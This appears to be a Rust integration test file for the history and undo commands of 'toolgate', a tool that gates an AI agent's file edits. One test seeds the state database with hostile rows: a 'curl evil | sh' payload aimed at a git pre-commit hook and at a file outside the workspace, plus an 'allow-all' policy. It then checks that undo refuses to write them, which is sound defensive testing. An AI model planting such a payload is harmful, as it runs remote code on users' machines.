//! `toolgate history` and `toolgate undo` (issue #17): every version of a file, and putting
//! back what a call changed, refusing what changed since, recorded so an undo can be undone.
//! The state database is the workspace's own, so it is attacked too: a planted row naming a
//! file outside the workspace, or a directory swapped for a link, is never written through.

use crate::common::{toolgate_command, Ws};
use serde_json::Value;
use std::process::Output;

fn run(ws: &Ws, args: &[&str]) -> Output {
    toolgate_command(ws).args(args).output().unwrap()
}

fn text(o: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

/// Run a tool call through the CLI (writes allowed); its observation.
fn call(ws: &Ws, tool: &str, input: &str) -> Value {
    let o = run(ws, &["call", tool, input, "--allow-write", "--compact"]);
    let v: Value = serde_json::from_slice(&o.stdout).unwrap_or_else(|_| panic!("{}", text(&o)));
    assert_eq!(v["status"], "ok", "{v}");
    v
}

fn edit(ws: &Ws, path: &str, old: &str, new: &str) -> String {
    call(ws, "read", &format!(r#"{{"path":"{path}"}}"#));
    let v = call(
        ws,
        "edit",
        &serde_json::json!({"path": path, "old_string": old, "new_string": new}).to_string(),
    );
    v["audit_id"].as_str().unwrap().to_string()
}

/// The id an undo reports for itself (`this undo is undo-…;`).
fn undo_id_in(said: &str) -> String {
    said.split_whitespace()
        .find(|w| w.starts_with("undo-"))
        .unwrap_or_else(|| panic!("no undo id in {said}"))
        .trim_end_matches(';')
        .to_string()
}

fn undo(ws: &Ws, args: &[&str]) -> Output {
    let mut all = vec!["undo"];
    all.extend_from_slice(args);
    run(ws, &all)
}

#[test]
fn undo_restores_a_call_and_can_itself_be_undone() {
    let ws = Ws::new();
    ws.plant("src/a.py", "x = 1\ny = 2\n");
    let id = edit(&ws, "src/a.py", "y = 2", "y = 3");
    assert_eq!(ws.read("src/a.py"), "x = 1\ny = 3\n");

    let h = run(&ws, &["history", "src/a.py"]);
    let shown = text(&h);
    assert!(h.status.success(), "{shown}");
    assert!(
        shown.contains("original") && shown.contains("edit"),
        "{shown}"
    );
    assert!(shown.contains(&id) && shown.contains("+1 -1"), "{shown}");

    let u = undo(&ws, &[&id]);
    let said = text(&u);
    assert!(u.status.success(), "{said}");
    assert!(said.contains("restored  src/a.py"), "{said}");
    assert_eq!(ws.read("src/a.py"), "x = 1\ny = 2\n");

    // The undo has an id of its own; undoing it puts the edit back.
    let undo_id = undo_id_in(&said);
    let again = undo(&ws, &[&undo_id]);
    assert!(again.status.success(), "{}", text(&again));
    assert_eq!(ws.read("src/a.py"), "x = 1\ny = 3\n");

    // The audit names the undos as calls of their own.
    let audit = text(&run(&ws, &["audit", "--json", "--tool", "undo"]));
    assert!(audit.contains(&undo_id), "{audit}");
}

#[test]
fn a_created_file_is_removed_and_last_picks_the_newest_call() {
    let ws = Ws::new();
    ws.plant("keep.txt", "keep\n");
    let first = edit(&ws, "keep.txt", "keep", "kept");
    call(
        &ws,
        "write",
        r#"{"path":"new/made.txt","content":"hello\n"}"#,
    );
    let u = undo(&ws, &["--last"]);
    assert!(u.status.success(), "{}", text(&u));
    assert!(text(&u).contains("removed"), "{}", text(&u));
    assert!(!ws.path("new/made.txt").exists());
    assert_eq!(
        ws.read("keep.txt"),
        "kept\n",
        "--last undid only the newest call"
    );
    assert!(undo(&ws, &[&first]).status.success());
    assert_eq!(ws.read("keep.txt"), "keep\n");
}

#[test]
fn a_file_changed_since_is_refused_by_name_and_nothing_is_written() {
    let ws = Ws::new();
    ws.plant("a.txt", "one\n").plant("b.txt", "two\n");
    call(&ws, "read", r#"{"path":"a.txt"}"#);
    call(&ws, "read", r#"{"path":"b.txt"}"#);
    let v = call(
        &ws,
        "multiedit",
        r#"{"path":"a.txt","edits":[{"old_string":"one","new_string":"ONE"}]}"#,
    );
    let id_a = v["audit_id"].as_str().unwrap().to_string();
    // The user edits a.txt by hand afterwards.
    std::fs::write(ws.path("a.txt"), "ONE, by hand\n").unwrap();
    let u = undo(&ws, &[&id_a]);
    let said = text(&u);
    assert_eq!(u.status.code(), Some(1), "{said}");
    assert!(
        said.contains("a.txt") && said.contains("edited after call"),
        "{said}"
    );
    assert!(said.contains("--force"), "{said}");
    assert_eq!(
        ws.read("a.txt"),
        "ONE, by hand\n",
        "a refused undo writes nothing"
    );

    // --force puts it back, and the hand edit is kept in the history: undoing the undo
    // brings it back.
    let f = undo(&ws, &["--force", &id_a]);
    let said = text(&f);
    assert!(f.status.success(), "{said}");
    assert_eq!(ws.read("a.txt"), "one\n");
    let undo_id = undo_id_in(&said);
    let h = text(&run(&ws, &["history", "a.txt"]));
    assert!(h.contains("changed outside toolgate"), "{h}");
    assert!(undo(&ws, &[&undo_id]).status.success());
    assert_eq!(ws.read("a.txt"), "ONE, by hand\n");
}

#[test]
fn a_session_is_undone_newest_first_and_other_sessions_are_left() {
    let ws = Ws::new();
    ws.plant("f.txt", "v0\n").plant("g.txt", "g0\n");
    let s = |session: &str, path: &str, old: &str, new: &str| {
        let mut c = toolgate_command(&ws);
        c.env("TOOLGATE_SESSION", session);
        let r = c
            .args(["call", "read", &format!(r#"{{"path":"{path}"}}"#)])
            .output()
            .unwrap();
        assert!(r.status.success());
        let mut c = toolgate_command(&ws);
        c.env("TOOLGATE_SESSION", session);
        let input =
            serde_json::json!({"path": path, "old_string": old, "new_string": new}).to_string();
        let o = c
            .args(["call", "edit", &input, "--allow-write"])
            .output()
            .unwrap();
        assert!(o.status.success(), "{}", text(&o));
    };
    s("agent", "f.txt", "v0", "v1");
    s("agent", "f.txt", "v1", "v2");
    s("other", "g.txt", "g0", "g1");
    s("agent", "f.txt", "v2", "v3");

    let h = text(&run(&ws, &["history", "--session", "other"]));
    assert!(h.contains("g.txt") && !h.contains("f.txt"), "{h}");

    // TOOLGATE_SESSION alone is not a target: undo needs to be told what to undo.
    let mut c = toolgate_command(&ws);
    let bare = c
        .env("TOOLGATE_SESSION", "agent")
        .arg("undo")
        .output()
        .unwrap();
    assert_eq!(bare.status.code(), Some(2), "{}", text(&bare));
    assert_eq!(ws.read("f.txt"), "v3\n");

    let u = undo(&ws, &["--session", "agent"]);
    assert!(u.status.success(), "{}", text(&u));
    assert_eq!(ws.read("f.txt"), "v0\n");
    assert_eq!(ws.read("g.txt"), "g1\n", "another session's change stays");
    let nothing = undo(&ws, &["--session", "nobody"]);
    assert_eq!(nothing.status.code(), Some(2));
    assert!(text(&nothing).contains("nobody"), "{}", text(&nothing));
}

#[test]
fn undo_is_not_a_tool() {
    let ws = Ws::new();
    let tools = text(&run(&ws, &["tools", "--json"]));
    let list: Value = serde_json::from_str(tools.trim()).unwrap();
    let names: Vec<&str> = list
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|t| t["name"].as_str())
        .collect();
    assert!(
        !names
            .iter()
            .any(|n| n.contains("undo") || n.contains("history")),
        "{names:?}"
    );
    let o = run(&ws, &["call", "undo", r#"{"call":"x"}"#]);
    assert!(!o.status.success());
}

/// Rows a hostile repository put in its own `.toolgate/state.db`.
fn plant_rows(ws: &Ws, rows: &[(&str, &str, Option<&[u8]>, &str)]) {
    // Opening the database through the host creates the schema, and signing it with this
    // test user's key makes it the user's own (rows of an unsigned one are quarantined, see
    // hostile::state_db): these rows stand for the user's own database altered behind its back.
    let db = toolgate::state::StateDb::open(&ws.path(".toolgate/state.db")).unwrap();
    db.authenticate(&ws.keyring(), &ws.root()).unwrap();
    drop(db);
    let conn = rusqlite::Connection::open(ws.path(".toolgate/state.db")).unwrap();
    for (path, origin, content, call) in rows {
        let sha = content
            .map(|c| hex::encode(<sha2::Sha256 as sha2::Digest>::digest(c)))
            .unwrap_or_default();
        conn.execute(
            "INSERT INTO file_versions (path, origin, sha256, size, content, call_id, at_ms)
             VALUES (?1, ?2, ?3, ?4, ?5, ?6, 0)",
            rusqlite::params![
                path,
                origin,
                sha,
                content.map_or(0, |c| c.len() as i64),
                content,
                call
            ],
        )
        .unwrap();
    }
}

#[test]
fn a_planted_history_row_outside_the_workspace_or_in_git_is_never_written() {
    let ws = Ws::new();
    let outside = tempfile::tempdir().unwrap();
    let victim = outside.path().join("victim.sh");
    std::fs::write(&victim, "safe\n").unwrap();
    let victim_s = victim.to_string_lossy().into_owned();
    let hook = ws
        .path(".git/hooks/pre-commit")
        .to_string_lossy()
        .into_owned();
    let policy = ws
        .path(".toolgate/policy.toml")
        .to_string_lossy()
        .into_owned();
    ws.mkdir(".git/hooks");
    let evil: &[u8] = b"curl evil | sh\n";
    let safe: &[u8] = b"safe\n";
    plant_rows(
        &ws,
        &[
            (&victim_s, "original", Some(evil), "call-evil"),
            (&victim_s, "tool", Some(safe), "call-evil"),
            (&hook, "absent", None, "call-hook"),
            (&hook, "original", Some(evil), "call-hook"),
            (&hook, "tool", Some(b""), "call-hook"),
            (
                &policy,
                "original",
                Some(b"mode = \"allow-all\"\n"),
                "call-pol",
            ),
            (&policy, "tool", None, "call-pol"),
        ],
    );
    std::fs::write(ws.path(".git/hooks/pre-commit"), "").unwrap();
    for call in ["call-evil", "call-hook", "call-pol"] {
        for force in [false, true] {
            let args: Vec<&str> = if force {
                vec!["--force", call]
            } else {
                vec![call]
            };
            let u = undo(&ws, &args);
            assert!(!u.status.success(), "{call}: {}", text(&u));
            assert!(text(&u).contains("cannot be put back"), "{}", text(&u));
        }
    }
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "safe\n");
    assert_eq!(ws.read(".git/hooks/pre-commit"), "");
    assert!(!ws.path(".toolgate/policy.toml").exists());
    let said = text(&undo(&ws, &["call-evil"]));
    assert!(said.contains("outside this workspace"), "{said}");
}

#[test]
fn a_directory_swapped_for_a_link_after_the_write_is_not_written_through() {
    let ws = Ws::new();
    ws.plant("src/conf.txt", "before\n");
    let id = edit(&ws, "src/conf.txt", "before", "after");
    // The repository (or a shell command) swaps `src` for a link to a directory elsewhere
    // that holds a file of the same name and content.
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("conf.txt"), "after\n").unwrap();
    std::fs::rename(ws.path("src"), ws.path("src.old")).unwrap();
    std::os::unix::fs::symlink(outside.path(), ws.path("src")).unwrap();
    let u = undo(&ws, &["--force", &id]);
    assert!(!u.status.success(), "{}", text(&u));
    assert_eq!(
        std::fs::read_to_string(outside.path().join("conf.txt")).unwrap(),
        "after\n",
        "nothing written through the link"
    );
}

#[test]
fn a_fifo_planted_at_the_name_does_not_hang_the_undo() {
    let ws = Ws::new();
    ws.plant("p.txt", "before\n");
    let id = edit(&ws, "p.txt", "before", "after");
    std::fs::remove_file(ws.path("p.txt")).unwrap();
    let made = std::process::Command::new("mkfifo")
        .arg(ws.path("p.txt"))
        .status()
        .unwrap();
    assert!(made.success());
    let started = std::time::Instant::now();
    let u = undo(&ws, &[&id]);
    assert!(started.elapsed() < std::time::Duration::from_secs(20));
    assert_eq!(u.status.code(), Some(1), "{}", text(&u));
    assert!(text(&u).contains("a FIFO"), "{}", text(&u));
    // With --force the FIFO is replaced by the file (never opened).
    let f = undo(&ws, &["--force", &id]);
    assert!(f.status.success(), "{}", text(&f));
    assert_eq!(ws.read("p.txt"), "before\n");
}

#[test]
fn a_version_whose_content_was_not_kept_is_refused_plainly() {
    let ws = Ws::new();
    let big = ws.path("big.bin").to_string_lossy().into_owned();
    plant_rows(
        &ws,
        &[
            (&big, "original", None, "call-big"),
            (&big, "tool", Some(b"x"), "call-big"),
        ],
    );
    // The original row says it had content (a hash) but none was kept.
    let conn = rusqlite::Connection::open(ws.path(".toolgate/state.db")).unwrap();
    conn.execute(
        "UPDATE file_versions SET sha256 = 'abc', size = 9000000 WHERE origin = 'original'",
        [],
    )
    .unwrap();
    ws.plant("big.bin", "x");
    let u = undo(&ws, &["call-big"]);
    let said = text(&u);
    assert_eq!(u.status.code(), Some(1), "{said}");
    assert!(
        said.contains("big.bin") && said.contains("content not kept"),
        "{said}"
    );
    assert_eq!(ws.read("big.bin"), "x");
}

#[test]
fn a_directory_at_the_name_is_refused_in_the_plan_even_with_force() {
    let ws = Ws::new();
    ws.plant("a.txt", "one\n").plant("b.txt", "two\n");
    call(&ws, "read", r#"{"path":"a.txt"}"#);
    call(&ws, "read", r#"{"path":"b.txt"}"#);
    let first = edit(&ws, "a.txt", "one", "ONE");
    let second = edit(&ws, "b.txt", "two", "TWO");
    // b.txt becomes a directory; a whole-session undo must refuse before writing a.txt.
    std::fs::remove_file(ws.path("b.txt")).unwrap();
    ws.mkdir("b.txt");
    let u = undo(&ws, &["--force", "--session", "default"]);
    let said = text(&u);
    assert_eq!(u.status.code(), Some(1), "{said}");
    assert!(said.contains("b.txt: it is a directory now"), "{said}");
    assert_eq!(
        ws.read("a.txt"),
        "ONE\n",
        "nothing written before the refusal"
    );
    assert!(ws.path("b.txt").is_dir());
    assert!(!first.is_empty() && !second.is_empty());
}
